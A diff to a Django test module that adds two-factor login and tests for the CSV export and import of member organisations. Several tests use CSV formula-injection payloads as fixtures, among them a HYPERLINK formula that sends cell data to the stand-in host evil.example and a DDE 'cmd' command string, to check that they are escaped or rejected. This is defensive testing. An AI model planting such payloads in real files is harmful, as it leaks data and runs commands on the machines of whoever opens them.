@@ -6,6 +6,7 @@ from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
 from PIL import Image
 
+from conftest import login_with_two_factor
 from icnk.roles import ADMINISTRATORS, EDITORS
 from members.models import Listing, MemberStatus, Organization
 from tests.members.conftest import bulk_organizations, login_administrator
@@ -23,7 +24,7 @@ def staff(username, group):
 
 @pytest.fixture
 def editor_client(client):
-    client.force_login(staff("editor", EDITORS))
+    login_with_two_factor(client, staff("editor", EDITORS))
     return client
 
 
@@ -190,3 +191,73 @@ def test_export_offers_csv_and_xlsx(editor_client, organization):
     choices = response.context["form"].fields["format"].choices
     formats = [label for value, label in choices if value != ""]
     assert formats == ["csv", "xlsx"]
+
+
+def export_csv(client):
+    """Export every organization as CSV through the admin's export page, all columns ticked."""
+    form = client.get(reverse("admin:members_organization_export")).context["form"]
+    data = {"format": "0", "resource": "0"}
+    data.update({name: "on" for name in form.fields if name not in data and name != "export_items"})
+    response = client.post(reverse("admin:members_organization_export"), data)
+    assert response.status_code == 200, response.content[:500]
+    return response.content.decode("utf-8-sig")
+
+
+def test_export_never_writes_a_live_formula(admin_client_, organization):
+    import csv
+
+    organization.name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    organization.local_name = "@SUM(1+1)*cmd|' /C calc'!A0"
+    organization.contact_name = "+1-2"
+    organization.save()
+    rows = list(csv.DictReader(io.StringIO(export_csv(admin_client_))))
+    row = next(row for row in rows if row["slug"] == organization.slug)
+    assert row["name"] == "'" + organization.name
+    assert row["local_name"] == "'" + organization.local_name
+    assert row["contact_name"] == "'+1-2"
+
+
+def test_contact_details_are_exported_only_to_the_personal_data_permission(
+    client, organization, caplog
+):
+    import logging
+
+    organization.contact_email = "private@example.org"
+    organization.save()
+    login_with_two_factor(client, staff("editor", EDITORS))
+    with caplog.at_level(logging.INFO, logger="icnk.security"):
+        exported = export_csv(client)
+    assert organization.name in exported
+    assert "private@example.org" not in exported and "contact_email" not in exported
+    assert "bulk export: user=" in caplog.text and "rows=1 contact_fields=False" in caplog.text
+
+    caplog.clear()
+    login_administrator(client, staff("chief", ADMINISTRATORS))
+    with caplog.at_level(logging.INFO, logger="icnk.security"):
+        assert "private@example.org" in export_csv(client)
+    assert "rows=1 contact_fields=True" in caplog.text
+
+
+def test_an_import_refuses_a_name_that_starts_like_a_formula(editor_client):
+    response = import_csv(
+        editor_client,
+        CSV_HEADER
+        + 'evil,"=HYPERLINK(""http://evil.example"")",JP,legal,2013-01-28,active,named\n',
+    )
+    assert "Some rows failed to validate" in response.text
+    assert "cannot start with =, +, - or @" in response.text
+    assert not Organization.objects.exists()
+
+
+def test_an_exported_file_imports_back_unchanged(admin_client_, organization):
+    organization.private_notes = "-- met in Geneva"
+    organization.save()
+    exported = export_csv(admin_client_)
+    assert "'-- met in Geneva" in exported
+    response = import_csv(admin_client_, exported)
+    assert "Some rows failed" not in response.text
+    form = response.context["confirm_form"]
+    data = {name: form[name].value() for name in form.fields}
+    admin_client_.post(reverse("admin:members_organization_process_import"), data)
+    organization.refresh_from_db()
+    assert organization.private_notes == "-- met in Geneva"
